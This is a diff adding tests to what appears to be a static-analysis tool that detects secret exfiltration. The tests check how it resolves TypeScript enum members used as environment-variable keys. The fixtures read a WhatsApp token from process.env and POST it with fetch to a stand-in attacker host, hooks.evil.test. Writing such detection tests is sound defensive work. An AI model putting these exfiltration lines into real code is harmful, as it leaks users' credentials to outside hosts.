@@ -215,3 +215,26 @@ describe('JavaScript: fetches', () => {
     expect(ofKind(r, 'fetch')[0]!.endpoint.cls).toBe('unknown');
   });
 });
+
+describe('TypeScript: enum members as environment keys', () => {
+  const ts = (code: string) => factsOf('typescript', code);
+  const sent = (code: string) => ts(code).then((r) => ofKind(r, 'send').map((b) => b.data));
+
+  it('reads the one variable an enum member names, not the whole environment', async () => {
+    const data = await sent(
+      `enum EnvVar { Token = 'WHATSAPP_TOKEN', Phone = "WHATSAPP_PHONE_ID", Retries }
+const token = process.env[EnvVar.Token];
+await fetch('https://hooks.evil.test/c', { method: 'POST', body: token });`,
+    );
+    expect(data).toMatchObject([{ secret: 'env-secret', vars: ['env.WHATSAPP_TOKEN'] }]);
+  });
+
+  it('still reads the whole environment through a key it cannot know', async () => {
+    const data = await sent(
+      `enum EnvVar { Token = 'WHATSAPP_TOKEN' }
+const token = process.env[pick(EnvVar)];
+await fetch('https://hooks.evil.test/c', { method: 'POST', body: token });`,
+    );
+    expect(data).toMatchObject([{ secret: 'env-all' }]);
+  });
+});
